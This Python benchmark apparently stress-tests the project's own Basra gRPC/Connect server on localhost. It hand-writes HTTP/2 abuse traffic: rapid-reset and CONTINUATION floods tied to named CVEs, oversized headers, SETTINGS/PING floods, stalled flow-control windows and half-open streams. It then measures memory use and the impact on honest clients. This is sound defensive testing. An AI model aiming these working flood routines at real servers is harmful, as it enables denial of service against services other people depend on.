"""HTTP/2 abuse against a real server process with the shipped limits, from another address
(127.0.0.2) than an honest client (127.0.0.1): for each class of attack, at 250 and at 500
attacking connections, the server's peak memory (the pod's limit is 512 MiB), how the honest
client's calls on both ports fared during the attack (failed, slowest), the memory left 10 s
after the attackers leave, and whether the server is still ready. The frames are written by hand
(tests/halfopen.py), as no well-behaved client can send them.

    .venv/bin/python -m tests.bench.abuse_bench
"""

from __future__ import annotations

import asyncio
import contextlib
import http.client
import json
import os
import struct
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Final

import grpc
from pyqwest import HTTPVersion, SyncClient, SyncHTTPTransport

from basra.v1 import basra_service_pb2 as pb
from basra.v1 import basra_service_pb2_grpc as pb_grpc
from basra.v1.basra_service_connect import BasraServiceClientSync
from tests.halfopen import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    SETTINGS_INITIAL_WINDOW_SIZE,
    frame,
    request_headers,
    rss_bytes,
)
from tests.support import embedded_serve, free_port

POD_LIMIT: Final = 512 * 2**20
"""deploy/kustomize/base/deployment.yaml's memory limit."""
ATTACKER: Final = "127.0.0.2"
CONTINUATION: Final = 0x9
HONEST_DEADLINE_S: Final = 30.0
Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, str], Awaitable[None]]


@contextlib.contextmanager
def server(tmp_path: Path) -> Iterator[tuple[subprocess.Popen[bytes], int, int]]:
    """A server process with the shipped limits (the embedded store); its gRPC and HTTP ports."""
    port, http_port = free_port(), free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("BASRA_")}
    log = (tmp_path / "serve.log").open("wb")
    process = subprocess.Popen(
        embedded_serve(port, "--http-listen", f"127.0.0.1:{http_port}", "--log-level", "ERROR"),
        stdout=log,
        stderr=log,
        env=env,
    )
    try:
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            grpc.channel_ready_future(channel).result(timeout=60)
        yield process, port, http_port
    finally:
        process.kill()
        process.wait()
        log.close()


async def _preface(writer: asyncio.StreamWriter, window: int | None = None) -> None:
    settings = b"" if window is None else struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
    writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + settings)
    await writer.drain()


async def rapid_reset(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
    """HEADERS then RST_STREAM, stream after stream (CVE-2023-44487)."""
    await _preface(w)
    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
    for n in range(2000):
        stream = 2 * n + 1
        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
        w.write(frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08") + b"\x00\x00\x00\x08")
        if n % 50 == 0:
            await w.drain()


async def continuation_flood(
    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
) -> None:
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB (CVE-2024-27316)."""
    await _preface(w)
    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
    w.write(frame(HEADERS, 0, 1, headers) + headers)
    block = b"\x00\x01a\x7f\x81\x7f" + b"a" * (16384 - 6)  # a literal that never ends
    for _ in range(62):
        w.write(frame(CONTINUATION, 0, 1, block) + block)
        await w.drain()


async def header_list_past_the_limit(
    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
) -> None:
    """Requests whose header list is larger than the server's MAX_HEADER_LIST_SIZE."""
    await _preface(w)
    base = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
    value = b"v" * 120
    big = base + b"".join(
        b"\x00\x02x" + bytes((n % 10 + 48,)) + b"\x78" + value for n in range(600)
    )
    for n in range(8):
        stream = 2 * n + 1
        for offset in range(0, len(big), 16384):
            piece = big[offset : offset + 16384]
            last = offset + 16384 >= len(big)
            kind = HEADERS if offset == 0 else CONTINUATION
            w.write(frame(kind, END_HEADERS if last else 0, stream, piece) + piece)
        await w.drain()


async def settings_and_ping_flood(
    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
) -> None:
    """SETTINGS and PING frames, each asking for an acknowledgement, never reading one."""
    await _preface(w)
    for n in range(2000):
        w.write(frame(SETTINGS, 0, 0) + frame(PING, 0, 0, struct.pack(">Q", n)))
        w.write(struct.pack(">Q", n))
        if n % 100 == 0:
            await w.drain()


async def window_never_opens(
    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
) -> None:
    """Whole requests from a client whose flow-control window never opens: no answer can be
    written to it."""
    await _preface(w, window=0)
    headers = request_headers(host, "/basra.v1.BasraService/ListRules", "application/proto")
    for n in range(16):
        stream = 2 * n + 1
        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
        w.write(frame(DATA, END_STREAM, stream))
    await w.drain()


async def half_open(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
    """Requests whose headers and one byte of body arrive, then nothing."""
    await _preface(w)
    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
    for n in range(16):
        stream = 2 * n + 1
        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
        w.write(frame(DATA, 0, stream, b"\x00") + b"\x00")
    await w.drain()


async def idle(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
    """A connection that sends its preface and nothing more."""
    await _preface(w)


ATTACKS: Final[dict[str, Attack]] = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "header_list_past_the_limit": header_list_past_the_limit,
    "settings_and_ping_flood": settings_and_ping_flood,
    "window_never_opens": window_never_opens,
    "half_open": half_open,
    "idle": idle,
}


async def _attack(port: int, connections: int, attack: Attack, stop: asyncio.Event) -> None:
    async def one() -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
        try:
            with contextlib.suppress(ConnectionError):
                await attack(reader, writer, f"127.0.0.1:{port}")
            await stop.wait()  # hold the connection, reading nothing
        finally:
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()

    await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)


@contextlib.contextmanager
def attacking(port: int, connections: int, attack: Attack) -> Iterator[None]:
    """``attack`` on ``connections`` connections from another thread until the block ends."""
    ready = threading.Event()
    stop: list[tuple[asyncio.AbstractEventLoop, asyncio.Event]] = []

    async def run() -> None:
        event = asyncio.Event()
        stop.append((asyncio.get_running_loop(), event))
        ready.set()
        await _attack(port, connections, attack, event)

    thread = threading.Thread(target=asyncio.run, args=(run(),))
    thread.start()
    try:
        assert ready.wait(10)
        yield
    finally:
        loop, event = stop[0]
        if thread.is_alive():
            loop.call_soon_threadsafe(event.set)
        thread.join(60)


def honest_calls(port: int, http_port: int, rounds: int) -> tuple[int, float]:
    """Deal and GetMatch on the gRPC port and Deal over Connect, from 127.0.0.1: the calls that
    failed, and the slowest call's seconds."""
    failed, slowest = 0, 0.0
    transport = SyncHTTPTransport(http_version=HTTPVersion.HTTP2)
    try:
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            stub = pb_grpc.BasraServiceStub(channel)
            connect = BasraServiceClientSync(
                f"http://127.0.0.1:{http_port}",
                http_client=SyncClient(transport),
                timeout_ms=int(HONEST_DEADLINE_S * 1000),
            )
            calls: tuple[Callable[[], object], ...] = (
                lambda: stub.Deal(
                    pb.DealRequest(request_id=str(uuid.uuid4())), timeout=HONEST_DEADLINE_S
                ),
                lambda: connect.deal(pb.DealRequest(request_id=str(uuid.uuid4()))),
            )
            for _ in range(rounds):
                for call in calls:
                    started = time.perf_counter()
                    try:
                        call()
                    except Exception:  # any failure is the figure
                        failed += 1
                    slowest = max(slowest, time.perf_counter() - started)
    finally:
        transport.close()
    return failed, slowest


def healthz(http_port: int) -> int:
    """The status of GET /healthz over HTTP/1.1."""
    connection = http.client.HTTPConnection("127.0.0.1", http_port, timeout=30)
    try:
        connection.request("GET", "/healthz")
        return connection.getresponse().status
    finally:
        connection.close()


def one_attack(tmp: Path, name: str, connections: int) -> dict[str, float | bool]:
    with server(tmp) as (process, port, http_port):
        honest_calls(port, http_port, 3)  # warm: the figures below are the attack's own
        base = rss_bytes(process.pid)
        peak, failed, slowest = base, 0, 0.0
        with attacking(http_port, connections, ATTACKS[name]):
            for _ in range(5):
                lost, slow = honest_calls(port, http_port, 2)
                failed, slowest = failed + lost, max(slowest, slow)
                peak = max(peak, rss_bytes(process.pid))
        time.sleep(10)  # what the server gives back once the attackers leave
        return {
            "peak_mib": peak >> 20,
            "peak_of_pod_limit": round(peak / POD_LIMIT, 2),
            "base_mib": base >> 20,
            "after_mib": rss_bytes(process.pid) >> 20,
            "honest_failed": failed,
            "honest_slowest_s": round(slowest, 2),
            "ready_after": healthz(http_port) == 200 and process.poll() is None,
        }


def abuse_figures(
    connections: tuple[int, ...] = (250, 500), names: tuple[str, ...] = tuple(ATTACKS)
) -> dict[str, float | bool]:
    figures: dict[str, float | bool] = {}
    with tempfile.TemporaryDirectory() as tmp:
        for count in connections:
            for name in names:
                result = one_attack(Path(tmp), name, count)
                print(f"  {name} x {count}: {result}", flush=True)
                for key, value in result.items():
                    figures[f"abuse_{name}_{count}_{key}"] = value
    return figures


if __name__ == "__main__":
    import sys

    print(json.dumps(abuse_figures(names=tuple(sys.argv[1:]) or tuple(ATTACKS))))
